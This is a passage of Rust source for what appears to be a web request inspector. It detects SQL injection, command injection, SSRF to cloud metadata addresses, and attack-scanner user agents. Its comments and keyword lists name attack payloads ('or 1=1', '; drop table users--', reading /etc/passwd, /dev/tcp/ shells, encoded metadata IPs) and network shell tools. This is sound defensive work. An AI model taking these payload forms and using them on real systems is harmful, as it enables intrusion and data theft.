/// The character of a reference at `i` (which is `&`) and its length.
fn entity_at(v: &[u8], i: usize) -> Option<(char, usize)> {
    if v.get(i + 1) == Some(&b'#') {
        let hex = matches!(v.get(i + 2), Some(b'x' | b'X'));
        let digits_start = i + if hex { 3 } else { 2 };
        let mut k = digits_start;
        let mut code: u32 = 0;
        // Leading zeros are allowed and used for evasion (`&#0000106`).
        while k < v.len() && k - digits_start < 10 {
            let d = match (hex, v[k]) {
                (true, b) if b.is_ascii_hexdigit() => (b as char).to_digit(16),
                (false, b) if b.is_ascii_digit() => (b as char).to_digit(10),
                _ => None,
            };
            let Some(d) = d else { break };
            code = code
                .saturating_mul(if hex { 16 } else { 10 })
                .saturating_add(d);
            k += 1;
        }
        if k == digits_start {
            return None;
        }
        if v.get(k) == Some(&b';') {
            k += 1;
        }
        return char::from_u32(code).map(|c| (c, k - i));
    }
    NAMED_ENTITIES
        .iter()
        .find(|(name, _)| starts_with_ci(v, i + 1, name))
        .map(|(name, c)| (*c, name.len() + 1))
}

// ---------------------------------------------------------------------------
// SQL injection
// ---------------------------------------------------------------------------

/// A lexical token of the SQL matcher; positions index the scanned value.
#[derive(Debug, Clone, Copy)]
enum Tok {
    /// Letters, digits, `_`, `@`, `$`: keywords, identifiers, numbers.
    Word(u32, u32),
    /// `'`, `"` or `` ` ``; `in_word` when between two letters, as in
    /// "O'Brien" — an apostrophe, not a quote.
    Quote { ch: u8, in_word: bool },
    /// `--`, `#`, or an unterminated `/*`.
    Comment,
    /// Any other single byte.
    Punct(u8),
}

/// Split into tokens; `/* … */` comments count as spaces (that is how
/// `union/**/select` is read), MySQL `/*! … */` comments as their content.
fn tokenize(v: &[u8], out: &mut Vec<Tok>) {
    out.clear();
    let n = v.len();
    let mut i = 0;
    while i < n {
        let b = v[i];
        if b <= b' ' || b == 0x7f {
            i += 1;
        } else if b == b'/' && v.get(i + 1) == Some(&b'*') {
            if v.get(i + 2) == Some(&b'!') {
                i += 3;
                while i < n && v[i].is_ascii_digit() {
                    i += 1;
                }
            } else {
                match positions_ci(&v[i + 2..], b"*/").next() {
                    Some(end) => i = i + 2 + end + 2,
                    None => {
                        out.push(Tok::Comment);
                        return;
                    }
                }
            }
        } else if b == b'*' && v.get(i + 1) == Some(&b'/') {
            i += 2;
        } else if b == b'-' && v.get(i + 1) == Some(&b'-') {
            out.push(Tok::Comment);
            i += 2;
        } else if b == b'#' {
            out.push(Tok::Comment);
            i += 1;
        } else if matches!(b, b'\'' | b'"' | b'`') {
            let in_word =
                i > 0 && is_letter(v[i - 1]) && v.get(i + 1).is_some_and(|&c| is_letter(c));
            out.push(Tok::Quote { ch: b, in_word });
            i += 1;
        } else if is_word_byte(b) || b == b'@' || b == b'$' {
            let start = i;
            while i < n && (is_word_byte(v[i]) || v[i] == b'@' || v[i] == b'$') {
                i += 1;
            }
            out.push(Tok::Word(start as u32, i as u32));
        } else {
            out.push(Tok::Punct(b));
            i += 1;
        }
    }
}

/// Words that only occur in SQL probing, wherever they appear.
const SQL_MARKERS: &[&[u8]] = &[
    b"information_schema",
    b"xp_cmdshell",
    b"sqlite_master",
    b"sysobjects",
    b"@@version",
    b"utl_http",
    b"utl_inaddr",
    b"dbms_pipe",
];

/// SQL read as tokens, so that prose passes: a quote that closes a literal
/// and goes on with `or 1=1` / `or 'a'='a` (or any always-true comparison),
/// an odd `'` followed by a comment (`admin'--`), `union [all] select`, a
/// stacked `; drop table` / `; delete from t` / …, timing and file functions
/// (`sleep(5)`, `benchmark(`, `pg_sleep(`, `waitfor delay`, `load_file(`,
/// `into outfile`) and catalog names (`information_schema`, `xp_cmdshell`).
/// Apostrophes inside words ("O'Brien", "I'll") are not quotes, and "select
/// a plan", "drop me a line", "union members" are not statements.
fn sql_injection(v: &[u8], toks: &mut Vec<Tok>) -> bool {
    tokenize(v, toks);
    let t: &[Tok] = toks;
    let mut odd_single_quote = false;
    for i in 0..t.len() {
        match t[i] {
            Tok::Quote { ch, in_word } => {
                if ch == b'\'' && !in_word {
                    odd_single_quote = !odd_single_quote;
                    if odd_single_quote
                        && (quote_then_comment(t, i + 1) || quote_then_order_by(v, t, i + 1))
                    {
                        return true;
                    }
                }
                if after_quote_logic(v, t, i + 1) {
                    return true;
                }
            }
            Tok::Word(..) => {
                if word_pattern(v, t, i) {
                    return true;
                }
            }
            Tok::Punct(b';') => {
                if stacked_statement(v, t, i + 1) {
                    return true;
                }
            }
            Tok::Comment | Tok::Punct(_) => {}
        }
    }
    false
}

fn text<'v>(v: &'v [u8], t: &[Tok], i: usize) -> Option<&'v [u8]> {
    match t.get(i) {
        Some(Tok::Word(s, e)) => Some(&v[*s as usize..*e as usize]),
        _ => None,
    }
}

fn is_kw(v: &[u8], t: &[Tok], i: usize, kw: &str) -> bool {
    text(v, t, i).is_some_and(|w| w.eq_ignore_ascii_case(kw.as_bytes()))
}

fn is_punct(t: &[Tok], i: usize, c: u8) -> bool {
    matches!(t.get(i), Some(Tok::Punct(p)) if *p == c)
}

fn is_number(w: &[u8]) -> bool {
    !w.is_empty() && w.iter().all(u8::is_ascii_digit)
}

fn is_identifier(v: &[u8], t: &[Tok], i: usize) -> bool {
    text(v, t, i).is_some_and(|w| !is_number(w))
}

/// After an odd quote: `)` and `;` may close the statement, then a comment.
fn quote_then_comment(t: &[Tok], mut j: usize) -> bool {
    while is_punct(t, j, b')') {
        j += 1;
    }
    if is_punct(t, j, b';') {
        j += 1;
    }
    matches!(t.get(j), Some(Tok::Comment))
}

/// `or`, `and`, `xor`, `||`, `&&` at `j`; the index after it.
fn logical_op(v: &[u8], t: &[Tok], j: usize) -> Option<usize> {
    if ["or", "and", "xor"].iter().any(|kw| is_kw(v, t, j, kw)) {
        Some(j + 1)
    } else if (is_punct(t, j, b'|') && is_punct(t, j + 1, b'|'))
        || (is_punct(t, j, b'&') && is_punct(t, j + 1, b'&'))
    {
        Some(j + 2)
    } else {
        None
    }
}

/// After a quote: `) or 1=1`, `or 'a'='a`, `or true--`, `and (select …`.
fn after_quote_logic(v: &[u8], t: &[Tok], mut j: usize) -> bool {
    while is_punct(t, j, b')') {
        j += 1;
    }
    let Some(mut j) = logical_op(v, t, j) else {
        return false;
    };
    while is_punct(t, j, b'(') {
        j += 1;
        if is_kw(v, t, j, "select") {
            return true;
        }
    }
    tautology(v, t, j, false)
}

/// A bare `or 1=1` (numeric context) counts only when a comment, `;`, `)`,
/// a quote or the end follows it.
fn bare_tautology(v: &[u8], t: &[Tok], mut j: usize) -> bool {
    while is_punct(t, j, b'(') {
        j += 1;
    }
    tautology(v, t, j, true)
}

/// After an odd quote: `order by 3--`, probing the column count.
fn quote_then_order_by(v: &[u8], t: &[Tok], j: usize) -> bool {
    is_kw(v, t, j, "order")
        && is_kw(v, t, j + 1, "by")
        && text(v, t, j + 2).is_some_and(is_number)
        && ends_clause(t, j + 3)
}

/// An operand of a comparison: its text (without quotes) and the next index.
fn operand<'v>(v: &'v [u8], t: &[Tok], j: usize) -> Option<(&'v [u8], bool, usize)> {
    match t.get(j)? {
        Tok::Word(s, e) => {
            let w = &v[*s as usize..*e as usize];
            Some((w, is_number(w), j + 1))
        }
        Tok::Quote { ch, .. } => {
            let mut k = j + 1;
            let mut inner: &[u8] = &[];
            if let Some(w) = text(v, t, k) {
                inner = w;
                k += 1;
            }
            match t.get(k) {
                Some(Tok::Quote { ch: close, .. }) if close == ch => Some((inner, false, k + 1)),
                // Left open for the application's own closing quote:
                // `' or 'a'='a` and `') or ('1'='1--`.
                None | Some(Tok::Comment | Tok::Punct(b';' | b')')) => Some((inner, false, k)),
                _ => None,
            }
        }
        _ => None,
    }
}

fn ends_clause(t: &[Tok], j: usize) -> bool {
    matches!(
        t.get(j),
        None | Some(Tok::Comment | Tok::Punct(b';' | b')') | Tok::Quote { .. })
    )
}

/// An always-true condition at `j`: `1=1`, `'a'='a'`, `2>1`, `'a'<>'b'`,
/// `a like a`, or a lone non-zero number or `true` before the clause ends.
fn tautology(v: &[u8], t: &[Tok], j: usize, bare: bool) -> bool {
    let Some((a, a_num, k)) = operand(v, t, j) else {
        return false;
    };

    #[derive(PartialEq)]
    enum Cmp {
        Eq,
        Ne,
        Gt,
        Lt,
    }
    let (cmp, k) = if is_punct(t, k, b'=') {
        (
            Cmp::Eq,
            if is_punct(t, k + 1, b'=') {
                k + 2
            } else {
                k + 1
            },
        )
    } else if is_kw(v, t, k, "like") {
        (Cmp::Eq, k + 1)
    } else if (is_punct(t, k, b'<') && is_punct(t, k + 1, b'>'))
        || (is_punct(t, k, b'!') && is_punct(t, k + 1, b'='))
    {
        (Cmp::Ne, k + 2)
    } else if is_punct(t, k, b'>') {
        (
            Cmp::Gt,
            if is_punct(t, k + 1, b'=') {
                k + 2
            } else {
                k + 1
            },
        )
    } else if is_punct(t, k, b'<') {
        (
            Cmp::Lt,
            if is_punct(t, k + 1, b'=') {
                k + 2
            } else {
                k + 1
            },
        )
    } else {
        // A lone `1` or `true` only after a quote: "either 1 or 2" is prose.
        let truthy = (a_num && a.iter().any(|&d| d != b'0')) || a.eq_ignore_ascii_case(b"true");
        return !bare && truthy && ends_clause(t, k);
    };

    let Some((b, b_num, end)) = operand(v, t, k) else {
        return false;
    };
    let holds = match cmp {
        Cmp::Eq => a.eq_ignore_ascii_case(b),
        Cmp::Ne => !a.eq_ignore_ascii_case(b),
        Cmp::Gt | Cmp::Lt if a_num && b_num => {
            let parse = |w: &[u8]| std::str::from_utf8(w).ok()?.parse::<u128>().ok();
            match (parse(a), parse(b)) {
                (Some(x), Some(y)) => (cmp == Cmp::Gt && x > y) || (cmp == Cmp::Lt && x < y),
                _ => false,
            }
        }
        Cmp::Gt | Cmp::Lt => false,
    };
    // Bare (no quote before it), only `x=x` counts: "2 < 3 and 5 > 4" is prose.
    holds && (!bare || (cmp == Cmp::Eq && ends_clause(t, end)))
}

fn word_pattern(v: &[u8], t: &[Tok], i: usize) -> bool {
    let Some(w) = text(v, t, i) else {
        return false;
    };
    let is = |kw: &str| w.eq_ignore_ascii_case(kw.as_bytes());

    if is("or") || is("and") {
        return bare_tautology(v, t, i + 1);
    }
    if is("union") {
        let mut j = i + 1;
        if is_kw(v, t, j, "all") || is_kw(v, t, j, "distinct") {
            j += 1;
        }
        while is_punct(t, j, b'(') {
            j += 1;
        }
        return is_kw(v, t, j, "select") && select_list(v, t, j + 1);
    }
    if is("sleep") || is("benchmark") || is("pg_sleep") {
        // `sleep(5)` or `sleep/**/(5)`, but not "sleep (8 hours)".
        let Some(Tok::Word(_, end)) = t.get(i) else {
            return false;
        };
        let open = skip_block_comments(v, *end as usize);
        return v.get(open) == Some(&b'(') && text(v, t, i + 2).is_some_and(is_number);
    }
    if is("load_file") || is("extractvalue") || is("updatexml") {
        return is_punct(t, i + 1, b'(');
    }
    if is("waitfor") {
        return is_kw(v, t, i + 1, "delay") || is_kw(v, t, i + 1, "time");
    }
    if is("into") {
        return is_kw(v, t, i + 1, "outfile") || is_kw(v, t, i + 1, "dumpfile");
    }
    SQL_MARKERS.iter().any(|m| w.eq_ignore_ascii_case(m))
}

/// The start of a select list: a number, `*`, `null`, a literal, `(`, a
/// variable, or a column followed by `,`, `(`, `from` or the end — "Credit
/// Union Select account holder" is a name, `union select password from
/// users` is not.
fn select_list(v: &[u8], t: &[Tok], j: usize) -> bool {
    match t.get(j) {
        Some(Tok::Punct(b'*' | b'(' | b'-')) | Some(Tok::Quote { .. }) => true,
        Some(Tok::Word(..)) => {
            let w = text(v, t, j).unwrap_or_default();
            is_number(w)
                || w.eq_ignore_ascii_case(b"null")
                || w.starts_with(b"@")
                || w.starts_with(b"0x")
                || is_punct(t, j + 1, b',')
                || is_punct(t, j + 1, b'(')
                || is_kw(v, t, j + 1, "from")
                || ends_clause(t, j + 1)
        }
        _ => false,
    }
}

/// A statement stacked after `;`.
fn stacked_statement(v: &[u8], t: &[Tok], j: usize) -> bool {
    let Some(w) = text(v, t, j) else {
        return false;
    };
    let is = |kw: &str| w.eq_ignore_ascii_case(kw.as_bytes());
    let next_is = |k: usize, kws: &[&str]| kws.iter().any(|kw| is_kw(v, t, k, kw));

    if is("drop") {
        // `; drop table users--`, not "; drop table tennis lessons".
        let mut k = j + 2;
        if next_is(k, &["if"]) && next_is(k + 1, &["exists"]) {
            k += 2;
        }
        next_is(
            j + 1,
            &[
                "table",
                "database",
                "schema",
                "view",
                "procedure",
                "function",
            ],
        ) && is_identifier(v, t, k)
            && (ends_clause(t, k + 1) || is_punct(t, k + 1, b',') || next_is(k + 1, &["cascade"]))
    } else if is("delete") {
        next_is(j + 1, &["from"])
            && is_identifier(v, t, j + 2)
            && (ends_clause(t, j + 3) || next_is(j + 3, &["where"]))
    } else if is("insert") {
        next_is(j + 1, &["into"])
            && is_identifier(v, t, j + 2)
            && (is_punct(t, j + 3, b'(') || next_is(j + 3, &["values", "select", "set"]))
    } else if is("update") {
        is_identifier(v, t, j + 1) && next_is(j + 2, &["set"])
    } else if is("truncate") {
        next_is(j + 1, &["table"])
    } else if is("alter") || is("create") {
        next_is(
            j + 1,
            &["table", "database", "function", "procedure", "trigger"],
        )
    } else if is("exec") || is("execute") {
        is_punct(t, j + 1, b'(')
            || text(v, t, j + 1).is_some_and(|w| {
                [&b"xp_"[..], b"sp_", b"master", b"@"]
                    .iter()
                    .any(|prefix| starts_with_ci(w, 0, prefix))
            })
    } else if is("select") {
        // `; select * from …`, `; select null, …`, not "; select a plan".
        is_punct(t, j + 1, b'*')
            || is_kw(v, t, j + 1, "null")
            || text(v, t, j + 1).is_some_and(|w| w.starts_with(b"@@"))
    } else if is("shutdown") {
        ends_clause(t, j + 1) || next_is(j + 1, &["with"])
    } else if is("declare") {
        text(v, t, j + 1).is_some_and(|w| w.starts_with(b"@"))
    } else {
        false
    }
}

// ---------------------------------------------------------------------------
// Command injection
// ---------------------------------------------------------------------------

/// Commands that are attacks after a shell separator whatever follows.
const STRONG_COMMANDS: &[&[u8]] = &[
    b"nc",
    b"ncat",
    b"netcat",
    b"wget",
    b"curl",
    b"bash",
    b"sh",
    b"zsh",
    b"ksh",
    b"csh",
    b"tcsh",
    b"whoami",
    b"uname",
    b"ifconfig",
    b"nslookup",
    b"busybox",
    b"telnet",
    b"tftp",
    b"socat",
    b"mkfifo",
];

/// Commands that are also ordinary words ("rock; cat; dog", "skills: java;
/// python"): attacks only with a shell-looking argument, or inside `$(…)`
/// or backticks.
const WEAK_COMMANDS: &[&[u8]] = &[
    b"cat", b"rm", b"ls", b"id", b"echo", b"ping", b"sleep", b"kill", b"python", b"python2",
    b"python3", b"perl", b"ruby", b"php", b"node", b"lua", b"env", b"ps", b"touch", b"head",
    b"tail", b"more", b"less", b"chmod", b"chown", b"cp", b"mv", b"find", b"grep", b"awk", b"sed",
    b"xargs", b"dd", b"tee", b"base64", b"dash", b"printf", b"nohup", b"exec", b"eval",
];

/// Shells and devices named by path, and Windows shells by name.
static SHELL_WORDS: Needles = Needles::new(&[
    b"/bin/sh",
    b"/bin/bash",
    b"/bin/dash",
    b"/bin/zsh",
    b"/bin/ksh",
    b"/bin/busybox",
    b"/dev/tcp/",
    b"/dev/udp/",
    b"cmd.exe",
    b"cmd",
    b"powershell.exe",
    b"powershell",
    b"pwsh",
    b"iex",
    b"invoke-expression",
    b"${ifs}",
    b"$ifs",
]);

/// Shell syntax that runs something: a separator (`;`, `|`, `||`, `&`,
/// `&&`, a newline) or a substitution (`$(`, backtick) followed by a known
/// command; a shell by path (`/bin/sh`, `/bin/bash -i`, `/dev/tcp/`);
/// `cmd.exe /c`, `cmd /c`, `powershell -e…`; Shellshock's `() { :; }`.
/// "Tom & Jerry", "rock; paper; scissors", "A|B testing", "$5 off" and
/// "cost: $(5)" pass because no command follows.
fn command_injection(v: &[u8]) -> bool {
    let n = v.len();
    for i in 0..n {
        let (start, substitution) = match v[i] {
            b';' | b'\n' | b'\r' => (i + 1, false),
            b'|' | b'&' => {
                if i > 0 && v[i - 1] == v[i] {
                    continue;
                }
                (
                    if v.get(i + 1) == Some(&v[i]) {
                        i + 2
                    } else {
                        i + 1
                    },
                    false,
                )
            }
            b'`' => (i + 1, true),
            b'$' if v.get(i + 1) == Some(&b'(') => (i + 2, true),
            _ => continue,
        };
        if command_at(v, start, substitution) {
            return true;
        }
    }

    find_needles(v, &SHELL_WORDS).any(|(i, word)| shell_word(v, i, word)) || shellshock(v)
}

/// Is there a command starting at `j` (after spaces)?
fn command_at(v: &[u8], mut j: usize, substitution: bool) -> bool {
    let n = v.len();
    while j < n && matches!(v[j], b' ' | b'\t') {
        j += 1;
    }

    // `; /usr/bin/id`: a command by absolute path.
    if j < n && v[j] == b'/' {
        let start = j;
        while j < n && (v[j].is_ascii_alphanumeric() || matches!(v[j], b'/' | b'_' | b'.' | b'-')) {
            j += 1;
        }
        let path = &v[start..j];
        let in_bin = [
            &b"/bin/"[..],
            b"/sbin/",
            b"/usr/bin/",
            b"/usr/sbin/",
            b"/usr/local/bin/",
        ]
        .iter()
        .any(|dir| path.starts_with(dir));
        let name = path.rsplit(|&b| b == b'/').next().unwrap_or(&[]);
        return in_bin && (is_command(name, STRONG_COMMANDS) || is_command(name, WEAK_COMMANDS));
    }

    // `;{cat,/etc/passwd}`: brace expansion runs the command without spaces.
    let braced = j < n && v[j] == b'{';
    if braced {
        j += 1;
    }
    let start = j;
    while j < n && (v[j].is_ascii_lowercase() || v[j].is_ascii_digit() || v[j] == b'_') {
        j += 1;
    }
    let word = &v[start..j];
    if braced {
        if j >= n || v[j] != b',' {
            return false;
        }
        return (is_command(word, STRONG_COMMANDS) && v.get(j + 1).is_some_and(|&b| b > b' '))
            || (is_command(word, WEAK_COMMANDS) && shell_argument(v, j + 1, word));
    }
    let ends_word = j == n
        || v[j] <= b' '
        || matches!(v[j], b';' | b'|' | b'&' | b')' | b'`' | b'<' | b'>' | b'$');
    if word.is_empty() || !ends_word {
        return false;
    }
    let strong = is_command(word, STRONG_COMMANDS);
    let weak = is_command(word, WEAK_COMMANDS);
    if !(strong || weak) {
        return false;
    }
    if substitution || strong {
        return true;
    }

    // A weak command needs redirection or a shell-looking argument.
    if j < n && matches!(v[j], b'<' | b'>') {
        return true;
    }
    let gap_start = j;
    loop {
        if j < n && matches!(v[j], b' ' | b'\t') {
            j += 1;
        } else if starts_with_ci(v, j, b"${ifs}") {
            j += 6;
        } else if starts_with_ci(v, j, b"$ifs") {
            j += 4;
        } else {
            break;
        }
    }
    j > gap_start && shell_argument(v, j, word)
}

fn is_command(word: &[u8], list: &[&[u8]]) -> bool {
    list.contains(&word)
}

/// An argument that only a shell user would write: a path (`/x`, `~/x`,
/// `./x`, `../x`), an option (`-rf`), a variable or substitution, a glob or
/// redirection; a number for `sleep`, `ping` and `kill`.
fn shell_argument(v: &[u8], mut j: usize, command: &[u8]) -> bool {
    if j < v.len() && matches!(v[j], b'\'' | b'"') {
        j += 1;
    }
    let Some(&c) = v.get(j) else {
        return false;
    };
    let next = v.get(j + 1).copied().unwrap_or(0);
    match c {
        b'/' | b'`' | b'*' | b'<' | b'>' => true,
        b'~' => next == b'/',
        b'.' => next == b'/' || (next == b'.' && v.get(j + 2) == Some(&b'/')),
        b'-' => next.is_ascii_alphabetic(),
        b'$' => next.is_ascii_alphabetic() || matches!(next, b'{' | b'('),
        b'0'..=b'9' => matches!(command, b"sleep" | b"ping" | b"kill"),
        _ => false,
    }
}

/// A shell path ending at a word boundary (`/bin/sh`, not `/bin/shop`),
/// or a Windows shell with a switch: `cmd.exe /c`, `cmd /k`,
/// `powershell -enc …`, `pwsh -c`; or `iex(` / `Invoke-Expression`.
fn shell_word(v: &[u8], i: usize, word: &[u8]) -> bool {
    let end = i + word.len();
    let ends_word = v.get(end).is_none_or(|&b| !is_word_byte(b));
    if word.starts_with(b"/") {
        return word.ends_with(b"/") || ends_word;
    }
    if i > 0 && v[i - 1].is_ascii_alphanumeric() && !word.starts_with(b"$") {
        return false;
    }
    let switch_after = |lead: u8| {
        let mut k = end;
        if !v.get(k).is_some_and(|&b| b == b' ' || b == b'\t') {
            return false;
        }
        while k < v.len() && matches!(v[k], b' ' | b'\t') {
            k += 1;
        }
        v.get(k) == Some(&lead) && v.get(k + 1).is_some_and(u8::is_ascii_alphabetic)
    };
    match word {
        b"${ifs}" => true,
        b"$ifs" => ends_word,
        b"cmd.exe" | b"cmd" => switch_after(b'/'),
        b"iex" => v.get(end) == Some(&b'(') || starts_with_ci(v, end, b" ("),
        b"invoke-expression" => ends_word,
        _ => switch_after(b'-'),
    }
}

/// Shellshock: `() {` followed by `:;` (spaces allowed).
fn shellshock(v: &[u8]) -> bool {
    positions_ci(v, b"()").any(|i| {
        let mut k = i + 2;
        let mut expect = [b'{', b':', b';'].into_iter();
        let mut want = expect.next();
        while let Some(w) = want {
            while k < v.len() && matches!(v[k], b' ' | b'\t') {
                k += 1;
            }
            if v.get(k) != Some(&w) {
                return false;
            }
            k += 1;
            want = expect.next();
        }
        true
    })
}

// ---------------------------------------------------------------------------
// SSRF
// ---------------------------------------------------------------------------

/// Cloud metadata services by IPv4 address: AWS/Azure/GCP/DigitalOcean/
/// OpenStack, AWS ECS task metadata, Alibaba Cloud.
const METADATA_V4: &[Ipv4Addr] = &[
    Ipv4Addr::new(169, 254, 169, 254),
    Ipv4Addr::new(169, 254, 170, 2),
    Ipv4Addr::new(100, 100, 100, 200),
];

/// AWS's IPv6 metadata address.
const METADATA_V6: Ipv6Addr = Ipv6Addr::new(0xfd00, 0x0ec2, 0, 0, 0, 0, 0, 0x254);

/// Metadata host names, and URL schemes that reach files or non-HTTP
/// internal services.
static SSRF_WORDS: Needles = Needles::new(&[
    b"metadata.google.internal",
    b"metadata.goog",
    b"instance-data",
    b"//metadata",
    b"file:",
    b"jar:",
    b"gopher://",
    b"dict://",
    b"ldap://",
    b"ldaps://",
    b"tftp://",
    b"netdoc:",
]);

/// Metadata services in any IPv4 notation an URL parser accepts (dotted,
/// decimal `2852039166`, hex `0xa9fea9fe`, octal, short forms), as IPv6
/// (`[::ffff:169.254.169.254]`, `fd00:ec2::254`) or by host name; `file:`,
/// `gopher://`, `dict://`, `ldap://`, `tftp://`, `jar:…:` URLs. Plain
/// `https://` URLs pass.
fn ssrf(v: &[u8]) -> bool {
    find_needles(v, &SSRF_WORDS).any(|(i, word)| ssrf_word(v, i, word))
        || metadata_ipv4(v)
        || metadata_ipv6(v)
}

fn ssrf_word(v: &[u8], i: usize, word: &[u8]) -> bool {
    let end = i + word.len();
    match word {
        b"metadata.google.internal" | b"metadata.goog" | b"instance-data" => {
            // A fully qualified name may end with a dot.
            let end = if v.get(end) == Some(&b'.') {
                end + 1
            } else {
                end
            };
            (i == 0 || !is_host_byte(v[i - 1])) && v.get(end).is_none_or(|&b| !is_host_byte(b))
        }
        // GCP's short name, only as a whole URL host: `http://metadata/…`.
        b"//metadata" => v.get(end).is_none_or(|&b| !is_host_byte(b)),
        _ if i > 0 && is_scheme_byte(v[i - 1]) => false,
        b"file:" => matches!(v.get(end), Some(b'/' | b'\\')),
        b"jar:" => {
            // `jar:` wraps another URL: `jar:http://…!/`, not "Tip jar: $5".
            let mut k = end;
            while k < v.len() && v[k].is_ascii_alphabetic() {
                k += 1;
            }
            k > end && v.get(k) == Some(&b':')
        }
        _ => true,
    }
}

fn is_scheme_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.')
}

fn is_host_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.')
}

/// Runs of `[0-9A-Za-z.]` parsed the way `inet_aton` does. Four-part forms
/// count anywhere; shorter ones (`2852039166`, `169.254.43518`) only as a URL
/// host, after `//` or `@`, so that long numbers in text pass.
fn metadata_ipv4(v: &[u8]) -> bool {
    let n = v.len();
    let mut i = 0;
    while i < n {
        if !(v[i].is_ascii_alphanumeric() || v[i] == b'.') {
            i += 1;
            continue;
        }
        let start = i;
        while i < n && (v[i].is_ascii_alphanumeric() || v[i] == b'.') {
            i += 1;
        }
        let run = &v[start..i];
        if !run[0].is_ascii_digit() || run.len() > 255 {
            continue;
        }
        let run = run.strip_suffix(b".").unwrap_or(run);
        if leading_quad(run).is_some_and(|a| METADATA_V4.contains(&a)) {
            // `169.254.169.254.nip.io`: wildcard DNS names that resolve to
            // the address they start with.
            return true;
        }
        let Some((addr, parts)) = inet_aton(run) else {
            continue;
        };
        if !METADATA_V4.contains(&addr) {
            continue;
        }
        let as_host = (start >= 2
            && (&v[start - 2..start] == b"//" || &v[start - 2..start] == b"\\\\"))
            || (start >= 1 && v[start - 1] == b'@');
        if parts == 4 || as_host {
            return true;
        }
    }
    false
}

/// A dotted-decimal address followed by more labels (`1.2.3.4.example`).
fn leading_quad(run: &[u8]) -> Option<Ipv4Addr> {
    let mut labels = run.split(|&b| b == b'.');
    let mut octets = [0u8; 4];
    for octet in &mut octets {
        let label = labels.next()?;
        if label.is_empty() || label.len() > 3 || !label.iter().all(u8::is_ascii_digit) {
            return None;
        }
        *octet = std::str::from_utf8(label).ok()?.parse().ok()?;
    }
    labels
        .next()
        .filter(|l| l.first().is_some_and(u8::is_ascii_alphabetic))
        .map(|_| Ipv4Addr::from(octets))
}

/// `inet_aton`: one to four parts, each decimal, `0x` hex or `0` octal; the
/// last part fills the remaining bytes. The address and the number of parts.
fn inet_aton(s: &[u8]) -> Option<(Ipv4Addr, usize)> {
    let mut parts = [0u64; 4];
    let mut count = 0;
    for part in s.split(|&b| b == b'.') {
        if count == 4 || part.is_empty() {
            return None;
        }
        let (digits, radix) = if part.len() > 2 && (part[..2].eq_ignore_ascii_case(b"0x")) {
            (&part[2..], 16)
        } else if part.len() > 1 && part[0] == b'0' {
            (&part[1..], 8)
        } else {
            (part, 10)
        };
        let text = std::str::from_utf8(digits).ok()?;
        parts[count] = u64::from_str_radix(text, radix).ok()?;
        count += 1;
    }
    let leading_bytes = parts[..count - 1].iter().all(|&p| p <= 0xff);
    let last_limit: u64 = match count {
        1 => 0xffff_ffff,
        2 => 0xff_ffff,
        3 => 0xffff,
        _ => 0xff,
    };
    if !leading_bytes || parts[count - 1] > last_limit {
        return None;
    }
    let value = parts[..count - 1]
        .iter()
        .enumerate()
        .fold(parts[count - 1], |acc, (idx, &p)| {
            acc | (p << (24 - 8 * idx))
        });
    Some((Ipv4Addr::from(u32::try_from(value).ok()?), count))
}

/// Runs of `[0-9A-Fa-f:.]` with two or more colons, parsed as IPv6: the AWS
/// metadata address, or an IPv4-mapped, -compatible or NAT64 form of a
/// metadata IPv4 address.
fn metadata_ipv6(v: &[u8]) -> bool {
    let n = v.len();
    let mut i = 0;
    while i < n {
        if !(v[i].is_ascii_hexdigit() || v[i] == b':') {
            i += 1;
            continue;
        }
        let start = i;
        let mut colons = 0;
        while i < n && (v[i].is_ascii_hexdigit() || v[i] == b':' || v[i] == b'.') {
            colons += usize::from(v[i] == b':');
            i += 1;
        }
        if colons < 2 || i - start > 45 {
            continue;
        }
        let Some(addr) = std::str::from_utf8(&v[start..i])
            .ok()
            .and_then(|s| s.parse::<Ipv6Addr>().ok())
        else {
            continue;
        };
        if addr == METADATA_V6 {
            return true;
        }
        let segments = addr.segments();
        let nat64 = segments[..6] == [0x64, 0xff9b, 0, 0, 0, 0];
        let embedded = addr.to_ipv4().or_else(|| {
            nat64.then(|| {
                let [.., hi, lo] = segments;
                Ipv4Addr::from((u32::from(hi) << 16) | u32::from(lo))
            })
        });
        if embedded.is_some_and(|v4| METADATA_V4.contains(&v4)) {
            return true;
        }
    }
    false
}

// ---------------------------------------------------------------------------
// Scanner user agents
// ---------------------------------------------------------------------------

/// Attack and scanning tools that name themselves in the user agent.
const SCANNERS: &[&[u8]] = &[
    b"sqlmap",
    b"nikto",
    b"nuclei",
    b"nmap",
    b"masscan",
    b"zgrab",
    b"wpscan",
    b"acunetix",
    b"dirbuster",
    b"gobuster",
    b"ffuf",
    b"feroxbuster",
    b"hydra",
    b"openvas",
    b"w3af",
    b"netsparker",
    b"appscan",
    b"jaeles",
    b"whatweb",
    b"commix",
    b"arachni",
    b"skipfish",
    b"wfuzz",
    b"dirb",
    b"nessus",
    b"xsstrike",
];

/// A scanner's name as a whole word of the user agent (trailing version
/// digits ignored: `zgrab2`), or ffuf's default "Fuzz Faster U Fool".
fn scanner_user_agent(v: &[u8]) -> bool {
    positions_ci(v, b"fuzz faster u fool").next().is_some()
        || v.split(|b| !b.is_ascii_alphanumeric()).any(|word| {
            let end = word
                .iter()
                .rposition(|b| !b.is_ascii_digit())
                .map_or(0, |p| p + 1);
            let name = &word[..end];
            (4..=11).contains(&name.len()) && SCANNERS.iter().any(|s| name.eq_ignore_ascii_case(s))
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde::Deserialize;

    /// A request of the corpora in `tests/data/`.
    #[derive(Debug, Deserialize)]
    #[serde(deny_unknown_fields)]
    struct Entry {
        method: String,
        path: String,
        query: Option<String>,
        user_agent: String,
        body: Option<Value>,
        #[serde(default)]
        content_type: Option<String>,
        #[serde(default)]
        expect_rule: Option<String>,
        #[serde(default)]
        expect_field: Option<String>,
        #[serde(default)]
        note: Option<String>,
    }

    fn corpus(text: &str) -> Vec<Entry> {
        serde_json::from_str(text).expect("corpus is valid JSON of entries")
    }

    fn run_entry(e: &Entry) -> Vec<Finding> {
        let headers = [("user-agent", e.user_agent.as_str())];
        let (body, content_type) = match (&e.body, &e.content_type) {
            (None, _) => (None, e.content_type.clone()),
            (Some(Value::String(raw)), Some(ct)) => {
                (Some(raw.as_bytes().to_vec()), Some(ct.clone()))
            }
            (Some(value), ct) => (
                Some(serde_json::to_vec(value).unwrap()),
                Some(ct.clone().unwrap_or_else(|| "application/json".to_string())),
            ),
        };
        inspect(&Inspected {
